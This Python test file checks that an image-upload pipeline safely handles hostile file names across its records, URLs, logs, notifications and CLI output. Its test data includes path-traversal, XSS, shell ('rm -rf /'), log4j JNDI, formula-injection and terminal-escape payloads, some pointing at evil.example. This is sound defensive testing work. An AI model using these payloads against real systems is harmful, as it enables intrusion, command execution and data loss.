"""Hostile names: from the upload to every output that contains them."""

import http.client
import json
import os
import posixpath
import re
import unicodedata
import uuid
from collections.abc import Collection
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest

from image_pipeline import keys
from image_pipeline.errors import UnsupportedFormatError
from image_pipeline.feeds import listing
from local.pipeline import Execution, Pipeline
from local.show import JsonLines, TextDisplay
from local.watch import FinishedUpload, Watch
from tests.conftest import ROOT
from tests.pictures import opened, photo

FOLDER = "uploads/hostile/"
PHOTO = photo(120, 80)


def filled(character: str, size: int) -> str:
    """Return a name whose key has this number of bytes."""
    room = size - len(FOLDER)
    return character * (room // len(character.encode())) + "_" * (room % len(character.encode()))


NAMES = {
    # Folders that somebody resolves, and names that look like them
    "parent": "../x.jpg",
    "parents": "../../../../etc/passwd",
    "parent inside": "a/../b.jpg",
    "here inside": "a/./b.jpg",
    "what they resolve to": "b.jpg",
    "only dots": "..",
    "one dot": ".",
    "three dots": ".../x.jpg",
    "encoded parent": "..%2fx.jpg",
    "encoded dots": "%2e%2e/x.jpg",
    "encoded parent as the API would wrap it": "%2E%2E%2Fx%2Ejpg",
    "twice encoded parent": "%252E%252E%252Fx%252Ejpg",
    "overlong parent": "..%c0%afx.jpg",
    "windows parent": "..\\..\\x.jpg",
    "absolute": "/etc/passwd",
    "empty folder": "a//b.jpg",
    "ends in a slash": "album/",
    "a name that is a folder, too": "album",
    "tomcat": "..;/x.jpg",
    # Controls, terminals, directions
    "spaces around": "  x.jpg  ",
    "only a space": " ",
    "tab": "a\tb.jpg",
    "null": "a\0b.jpg",
    "encoded null": "a%00b.jpg",
    "line break": "a\r\nSubject: paid\r\n\r\n<h1>b.jpg",
    "line feed": "a\nb.jpg",
    "unix separators": "a\x1c\x1d\x1e\x85\u2028\u2029b.jpg",
    "colour": "\x1b[31mred\x1b[0m.jpg",
    "title": "\x1b]0;title\x07.jpg",
    "hyperlink": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\.jpg",
    "clear": "\x1bc\x1b[2J\x1b[H.jpg",
    "eight-bit escape": "\x9b31m\x9d0;t\x9c.jpg",
    "backspaces": "safe.exe\b\b\b\bjpg",
    "delete": "\x7f\x7f.jpg",
    "bidi override": "\u202egpj.exe",
    "bidi isolate": "\u2066a\u2069\u200e\u200f\u061cb.jpg",
    "zero width": "in\u200bvoice\u2060\ufeff.jpg",
    "its double": "invoice.jpg",
    "joined emoji": "👩\u200d🚀.jpg",
    "noncharacters": "\ufffe\uffff\U0001ffff.jpg",
    "replacement": "\ufffd.jpg",
    # Lengths
    "1024 bytes": filled("a", 1024),
    "1023 bytes": filled("b", 1023),
    "1024 bytes, two each": filled("é", 1024),
    "1024 bytes, three each": filled("日", 1024),
    "1024 bytes, four each": filled("🦊", 1024),
    "1023 bytes, four each": filled("🐺", 1023),
    "1024 percent signs": filled("%", 1024),
    "1024 bytes of folders": filled("/", 1024),
    # Languages that somebody may evaluate
    "html": "<script>alert(1)</script>.jpg",
    "attribute": "\" onerror='alert(1)' x=\".jpg",
    "entity": "&lt;&#x41;]]><Key>.jpg",
    "json": '"}],\\"status": "COMPLETED\\u0041.jpg',
    "jsonata": "{% $states.input %}",
    "jsonata inside": "x%}{% $error('x') %}'&$uuid()&'.jpg",
    "jsonata words": "`$states`.$upload.key[0]^(a)~>$f",
    "dynamodb": "#status :status attribute_not_exists(ImageKey) OR 1 = 1",
    "substitution": "${ImageTableName} ${AWS::AccountId} ${aws:username}.jpg",
    "shell": "$(id) `id` ; rm -rf / | a & b > c.jpg",
    "format": "{0} {error.__class__} %s %n.jpg",
    "log4j": "${jndi:ldap://evil.example/a}",
    "markup": "[red]x[/red] :smile: [link=http://evil.example]y[/link].jpg",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "plus formula": "+1+cmd|' /C calc'!A0",
    "minus formula": "-1",
    "at formula": "@SUM(A1:A9)",
    "wildcard": "*",
    "wildcards": "[a-z]?.jpg",
    # URLs
    "question": "what?.jpg",
    "encoded question": "what%3F.jpg",
    "twice encoded question": "what%253F.jpg",
    "question without a dot": "what?",
    "encoded question without a dot": "what%3F",
    "twice encoded question without a dot": "what%253F",
    "query": "x.jpg?versionId=1&X-Amz-Signature=0",
    "fragment": "x.jpg#y",
    "semicolon": "x.jpg;jsessionid=1",
    "plus": "a+b.jpg",
    "space": "a b.jpg",
    "encoded space": "a%20b.jpg",
    "encoded plus": "a%2Bb.jpg",
    "encoded percent": "100%25.jpg",
    "lone percent": "100%.jpg",
    "half an escape": "100%2",
    "no UTF-8": "%ff%fe.jpg",
    "status": "status",
    "status inside": "x/status",
    "status of status": "x/status/status",
    "api path": "/images/uploads/x.jpg/status",
    "arn": "arn:aws:s3:::bucket/uploads/x.jpg",
    "s3 url": "s3://bucket/uploads/x.jpg",
    "url": "http://evil.example/x.jpg",
    "user info": "@evil.example/x.jpg",
    # Several kinds in one name
    "controls": "\x1b[31m\u202egpj.\u2066exe\x1b[0m\x07.jpg",
    "languages": '=HYPERLINK("http://evil.example")[red]x[/red]:smile:<script>`id`</script>"}],\\"a": $(id) %s.jpg',
    "encodings": "a+b & 100%.jpg#y",
    # Two keys that look the same
    "NFC": unicodedata.normalize("NFC", "Grün Åse.jpg"),
    "NFD": unicodedata.normalize("NFD", "Grün Åse.jpg"),
    "upper case": "GRÜN ÅSE.JPG",
    "homoglyph": "b\u0430d.jpg",
}
for _name in ("1024 bytes", "parent inside", "colour"):
    # The upload that is named like the folder of another's renditions
    _folder = keys.rendition_prefix(FOLDER + NAMES[_name])
    NAMES[f"impostor of {_name}"] = _folder.removeprefix("thumbnails/hostile/").removesuffix("/")

ALL_NAMES = dict(NAMES)
"""Also those that only HEAVY processes."""

SIMILAR = {
    *("parents", "here inside", "one dot", "three dots", "encoded dots", "encoded parent as the API would wrap it"),
    *("overlong parent", "tomcat", "only a space", "tab", "encoded null", "line feed", "unix separators", "title"),
    *("hyperlink", "clear", "backspaces", "delete", "bidi isolate", "joined emoji", "replacement", "1023 bytes"),
    *("1024 bytes, two each", "1024 bytes, three each", "1023 bytes, four each", "1024 bytes of folders", "attribute"),
    *("entity", "jsonata words", "dynamodb", "format", "log4j", "plus formula", "minus formula", "at formula"),
    *("wildcard", "twice encoded question", "question without a dot", "encoded question without a dot"),
    *("twice encoded question without a dot", "semicolon", "encoded space", "encoded percent", "half an escape"),
    *("status", "status of status", "arn", "s3 url", "user info", "upper case", "homoglyph"),
    *("impostor of 1024 bytes", "impostor of colour"),
    *("only dots", "encoded parent", "windows parent", "eight-bit escape", "noncharacters", "1024 percent signs"),
    *("jsonata inside", "substitution", "wildcards", "fragment", "encoded plus", "api path", "url"),
    *("twice encoded parent", "encoded question"),
    *("absolute", "colour", "bidi override", "1024 bytes", "html", "json", "shell", "markup", "formula"),
    *("question", "plus", "space", "lone percent"),
}
"""Names of a kind that another name has, too. Only HEAVY tries them."""
assert NAMES.keys() >= SIMILAR
if "HEAVY" not in os.environ:
    NAMES = {name: text for name, text in NAMES.items() if name not in SIMILAR}

CHANGED = {
    name
    for name, text in NAMES.items()
    if keys.printable(text) != text or "%25" in keys.status_path(text) or len(text.encode()) > 1000
}
"""Those that look different somewhere, or are cut."""

DISTINCT = CHANGED & {
    *("parent inside", "ends in a slash", "line break", "controls", "1024 bytes, four each", "languages", "jsonata"),
    "query",
}
"""One of each kind of these: only HEAVY also lets the others fail, and deletes them."""
if "HEAVY" in os.environ:
    DISTINCT = CHANGED

NOT_IN_MOTO = {name for name in NAMES if "\n" in NAMES[name]}
"""moto's S3 takes no line feed, as S3 does: these are delivered as events, with the bytes of another upload."""


HEADERS = {"content-type", "x-content-type-options", "cache-control", "content-length", "apigw-requestid"} | {
    "server", "date",
}  # fmt: skip
"""The function's, API Gateway's, and those of any server."""


@dataclass
class UploadResult:
    """The results of one upload."""

    key: str
    execution: Execution
    record: dict[str, Any]
    notification: dict[str, Any]


class Run:
    """Uploads of the same bytes under many names, all at once.

    Args:
        pipeline: The pipeline that receives the uploads.
        folder: The prefix of every key.
        names: Names in `NAMES`.
        data: The content of each upload.
    """

    def __init__(self, pipeline: Pipeline, folder: str, names: Collection[str], data: bytes) -> None:
        self.pipeline, self._folder, self._data = pipeline, folder, data
        logs = [pipeline.run_dir / "logs" / f"{name}.log" for name in ("server", *pipeline.environments)]
        before = {path: path.stat().st_size if path.exists() else 0 for path in logs}
        keys_of = {name: folder + NAMES[name] for name in names}
        for name in keys_of.keys() - NOT_IN_MOTO:
            pipeline.upload(keys_of[name], data)
        stand_in = pipeline.upload(f"{folder}stand-in", data)
        self._wait_for(len(keys_of.keys() - NOT_IN_MOTO) + 1)
        pipeline.replace("ValidateImageFunction", lambda event: self._validate(event, stand_in))
        for name in NOT_IN_MOTO:
            self._deliver(keys_of[name])
        self._wait_for(len(names) + 1)
        pipeline.clear()

        executions = {execution.key: execution for execution in pipeline.executions()}
        sent = {
            notification["Message"].rpartition("/details/")[2]: notification
            for notification in pipeline.notifications()
        }
        self.results = {
            name: UploadResult(key, executions[key], pipeline.record(key) or {}, sent[executions[key].arn])
            for name, key in keys_of.items()
        }
        self.logs = {path.stem: path.read_bytes()[size:].decode() for path, size in before.items() if path.exists()}

    def _wait_for(self, count: int) -> None:
        # Reading notifications is cheaper than listing executions, which use the same processor.
        def are_notified() -> bool:
            return (
                sum(self._folder in notification["Message"] for notification in self.pipeline.notifications()) == count
            )

        def have_ended() -> bool:
            mine = [
                execution for execution in self.pipeline.executions() if (execution.key or "").startswith(self._folder)
            ]
            return not any(execution.running for execution in mine)

        self.pipeline.wait_until(are_notified, "every name to be notified", 300)
        self.pipeline.wait_until(have_ended, "every name to be through")

    def _deliver(self, key: str) -> None:
        event = json.loads((ROOT / "events" / "object_created.json").read_text())
        event["detail"]["bucket"]["name"] = self.pipeline.uploads_bucket
        event["detail"]["object"] |= {"key": key, "size": len(self._data)}
        start(self.pipeline, event)

    def _validate(self, event: dict[str, Any], version: str | None) -> dict[str, Any]:
        if self._data is not PHOTO:
            raise UnsupportedFormatError(f"{event['upload']['key']} is no picture.", "Upload a picture.")
        source = {**event["upload"], "key": f"{self._folder}stand-in", "versionId": version}
        return {"source": source, "image": {}, "milliseconds": 1}


def start(pipeline: Pipeline, event: dict[str, Any]) -> str:
    """Start the workflow with an event and return the ARN of the execution."""
    arn: str = pipeline.client("stepfunctions").start_execution(
        stateMachineArn=pipeline.outputs["ProcessImageStateMachineArn"], name=str(uuid.uuid4()), input=json.dumps(event)
    )["executionArn"]
    return arn


@pytest.fixture(scope="module")
def pictures(shared_pipeline: Pipeline) -> Run:
    """Uploads of an image under every name."""
    return Run(shared_pipeline, FOLDER, NAMES, PHOTO)


@pytest.fixture(scope="module")
def failures(shared_pipeline: Pipeline) -> Run:
    """Uploads of text under names that are encoded somewhere."""
    return Run(shared_pipeline, FOLDER.replace("hostile", "HOSTILE"), DISTINCT, b"no picture")


@pytest.fixture(params=["pictures", "failures"])
def any_run(request: pytest.FixtureRequest) -> Run:
    run: Run = request.getfixturevalue(request.param)
    return run


def visit(url: str) -> tuple[int, http.client.HTTPMessage, bytes]:
    """Fetch a URL as a browser does, which resolves `.` and `..` first."""
    parts = urlsplit(url)
    folders: list[str] = []
    for folder in parts.path.split("/"):
        if unquote(folder) == "..":
            folders.pop()
        elif unquote(folder) != ".":
            folders.append(folder)
    connection = http.client.HTTPConnection(parts.netloc)
    try:
        connection.request("GET", "/".join(folders) + (f"?{parts.query}" if parts.query else ""))
        answer = connection.getresponse()
        return answer.status, answer.headers, answer.read()
    finally:
        connection.close()


def status_url(result: UploadResult) -> str:
    """Return the status URL in the notification."""
    (url,) = re.findall(r"^Status: (\S+)$", result.notification["Message"], re.MULTILINE)
    return str(url)


def test_every_name_has_its_own_record(any_run):
    """The record has the key and the outcome of its upload."""
    for name, result in any_run.results.items():
        expected = "COMPLETED" if result.key.startswith(FOLDER) else "FAILED"
        assert (result.record["status"], result.record["ImageKey"], result.record["upload"]["key"]) == (
            expected,
            result.key,
            result.key,
        ), name
        assert result.record["execution"]["id"] == result.execution.name, name


def test_the_url_in_a_notification_returns_the_record_of_its_upload(any_run):
    """Similar names and browsers get the right record; no header contains the name."""
    for name, result in any_run.results.items():
        code, headers, body = visit(status_url(result))
        assert (code, headers["content-type"], headers["x-content-type-options"]) == (
            200,
            "application/json",
            "nosniff",
        ), name
        assert {header.lower() for header in headers} == HEADERS | {"etag"}, name
        status = json.loads(body)
        assert (status["ImageKey"], status["execution"]["id"]) == (result.key, result.execution.name), name
    assert len({status_url(result) for result in any_run.results.values()}) == len(any_run.results)


def test_renditions_stay_in_their_own_folder(pictures):
    """Renditions are below `thumbnails/`, no two uploads share one, and no tool resolves parts of their names."""
    owners: dict[str, str] = {}
    for name, result in pictures.results.items():
        for rendition in result.record["renditions"]:
            key = rendition["key"]
            assert key.startswith("thumbnails/hostile/"), name
            assert posixpath.normpath(key) == key, name
            assert keys.printable(key) == key, name
            assert len(key.encode()) <= keys.MAX_KEY_BYTES, name
            assert owners.setdefault(key, name) == name
    assert len(owners) == len(NAMES) * 4


def test_rendition_urls_return_the_image(pictures):
    """The URLs work in browsers; no header contains the name."""
    for name, result in pictures.results.items():
        _, _, body = visit(status_url(result))
        all_renditions = json.loads(body)["renditions"]
        for rendition in all_renditions if "HEAVY" in os.environ else all_renditions[:1]:  # their folder has the name
            code, headers, data = visit(rendition["url"])
            assert code == 200, name
            assert opened(data).size == (rendition["width"], rendition["height"]), name
            assert headers["content-type"] == f"image/{rendition['format'].lower()}", name
            assert "content-disposition" not in headers, name


def test_the_address_of_a_rendition_returns_the_image(pictures):
    """The path beside the status works for every name; no header contains the name."""
    for name, result in pictures.results.items():
        address = pictures.pipeline.api_url + keys.rendition_path(result.key, "web.webp")
        code, headers, _ = visit(address)
        assert {header.lower() for header in headers} == HEADERS | {"location", "vary"}, name
        assert code == 302, name
        assert headers["location"].isascii(), name
        _, _, data = visit(headers["location"])
        (expected,) = [
            rendition
            for rendition in result.record["renditions"]
            if (rendition["name"], rendition["format"]) == ("web", "WEBP")
        ]
        assert (opened(data).size, opened(data).format) == ((expected["width"], expected["height"]), "WEBP"), name
        assert keys.rendition_prefix(result.key) in unquote(urlsplit(headers["location"]).path) + "/", name


def test_every_name_is_listed_with_its_addresses(any_run):
    """Each upload is listed once, with its own paths."""
    pipeline = any_run.pipeline
    everything = listing.make_filter()

    def listed() -> dict[str, Any]:
        images_by_key: dict[str, Any] = {}
        cursor: str | None = None
        while True:
            page = listing.read_page(
                pipeline.client, pipeline.outputs["ListingTableName"], listing.Query(everything, 100, cursor)
            )
            images_by_key |= {image["imageKey"]: image for image in page.images}
            cursor = page.cursor
            if cursor is None:
                return images_by_key

    settled = lambda: {key for key, image in listed().items() if image["status"] != "PROCESSING"}  # noqa: E731
    pipeline.wait_until(lambda: {result.key for result in any_run.results.values()} <= settled(), "the listing", 60)
    images = listed()
    for name, result in any_run.results.items():
        image = images[result.key]
        assert image["status"] == result.record["status"], name
        assert image["statusPath"] == keys.status_path(result.key), name
        if image["status"] == "COMPLETED":
            code, _, _ = visit(pipeline.api_url + image["renditionPath"])
            assert code == 302, name


def test_the_format_of_a_notification_is_independent_of_the_name(any_run):
    """The subject has one line, and the body no control characters."""
    lines: set[tuple[str, ...]] = set()
    for name, result in any_run.results.items():
        subject, body = result.notification["Subject"], result.notification["Message"]
        assert re.fullmatch(r"Image (processed|failed): [ -~]+", subject), name
        assert len(subject) < 100, name
        assert all(keys.printable(line) == line for line in body.split("\n")), name
        first, *rest = body.split("\n")
        assert first.startswith(keys.printable(result.key)), name
        lines.add(tuple(line.partition(":")[0] for line in rest))
        attributes = {key: attribute["Value"] for key, attribute in result.notification["MessageAttributes"].items()}
        assert attributes["imageKey"] == keys.printable(result.key), name
        assert attributes.keys() == {"status", "imageKey"}, name
    assert len(lines) == 1


def test_logs_have_one_line_for_one_event_and_no_names(any_run):
    """Every line of a function is JSON in ASCII without names; the log of the server has no control characters."""
    for log, text in any_run.logs.items():
        assert all(character.isprintable() or character == "\n" for character in text), log
        if log != "server":
            for line in text.splitlines():
                assert line.isascii(), log
                assert "hostile" not in json.dumps(json.loads(line)).lower(), log
    assert any_run.logs["ValidateImageFunction"].count("\n") >= len(any_run.results) - len(NOT_IN_MOTO)


class Only:
    """The pipeline, restricted to the executions of some names."""

    def __init__(self, run: Run, names: Collection[str]) -> None:
        self._run, self.names = run, names

    def executions(self, _machine: str) -> list[Execution]:
        return [self._run.results[name].execution for name in self.names]

    def __getattr__(self, name: str) -> Any:
        return getattr(self._run.pipeline, name)


def test_the_command_line_only_shows_the_names(pictures, capsys):
    """Text and JSON lines are safe; files are written only to the folder of renditions."""
    folder: Path = pictures.pipeline.run_dir
    around = set(folder.parent.iterdir()), set(folder.iterdir()) | {folder / "thumbnails"}
    selection = Only(pictures, ())
    watch = Watch(selection)
    selection.names = CHANGED
    sights = list(watch.poll())
    outcomes = [sight for sight in sights if isinstance(sight, FinishedUpload)]
    assert {outcome.key for outcome in outcomes} == {pictures.results[name].key for name in CHANGED}
    for display in (TextDisplay(), JsonLines()):
        for sight in sights:
            display.ended(sight) if isinstance(sight, FinishedUpload) else display.entered(sight)
        display.outcomes(outcomes)
        display.verdict(len(outcomes), [f"{outcome.key}: strange." for outcome in outcomes])
    out, err = capsys.readouterr()
    assert err == ""
    for line in out.split("\n"):
        assert keys.printable(line) == line
    for outcome in outcomes:
        assert f"{keys.printable(outcome.key)}  COMPLETED" in out
        assert json.dumps(outcome.key) in out
        assert len(outcome.notifications) == 1
        for path in outcome.files:
            assert path.startswith("s3://") or Path(path).resolve().is_relative_to(folder / "thumbnails" / "hostile")
    assert (set(folder.parent.iterdir()), set(folder.iterdir())) == around


def test_the_folder_itself_can_be_an_upload(pipeline):
    """`uploads/` with content is a valid key, and its status has a URL."""
    table = pipeline.outputs["ImageTableName"]
    item = {"ImageKey": {"S": "uploads/"}, "status": {"S": "FAILED"}, "error": {"M": {"code": {"S": "X"}}}}
    pipeline.client("dynamodb").put_item(TableName=table, Item=item)
    code, _, body = visit(pipeline.api_url + keys.status_path("uploads/"))
    pipeline.client("dynamodb").delete_item(TableName=table, Key={"ImageKey": {"S": "uploads/"}})
    assert (code, json.loads(body)["ImageKey"]) == (200, "uploads/")


def test_a_key_with_half_a_character_fails_without_other_effects(pipeline):
    """A forged event with an invalid key fails without an effect on later events."""
    event = json.loads((ROOT / "events" / "object_created.json").read_text())
    event["detail"]["object"]["key"] = "uploads/half/\ud800.jpg"
    arn = start(pipeline, event)
    pipeline.wait_until(
        lambda: any(execution.arn == arn and execution.status == "FAILED" for execution in pipeline.executions()),
        "its end",
    )
    pipeline.upload("uploads/half/next.jpg", PHOTO)
    assert (pipeline.wait_for("uploads/half/next.jpg") or {})["status"] == "COMPLETED"


def test_a_deletion_removes_only_its_own_renditions(pictures):
    """A name that looks like the folder of another upload removes no rendition of that upload."""
    pipeline: Pipeline = pictures.pipeline
    bucket = pipeline.outputs["ThumbnailsBucketName"]
    deleted = DISTINCT - NOT_IN_MOTO
    kept = {
        rendition["key"] for name in NAMES.keys() - deleted for rendition in pictures.results[name].record["renditions"]
    }
    for name in deleted:
        pipeline.client("s3").delete_object(Bucket=pipeline.uploads_bucket, Key=pictures.results[name].key)

    def stored() -> set[str]:
        pages = pipeline.client("s3").get_paginator("list_object_versions").paginate(Bucket=bucket)
        keys_stored = [version["Key"] for page in pages for version in page.get("Versions", [])]
        return {key for key in keys_stored if key.startswith("thumbnails/hostile/")}

    assert kept < stored()
    own = {rendition["key"] for rendition in (pipeline.record(f"{FOLDER}stand-in") or {})["renditions"]}
    pipeline.wait_until(lambda: stored() - own == kept, "the renditions to be deleted", 120)
    for name in NAMES:
        status = (pipeline.record(pictures.results[name].key) or {})["status"]
        assert status == ("DELETED" if name in deleted else "COMPLETED"), name
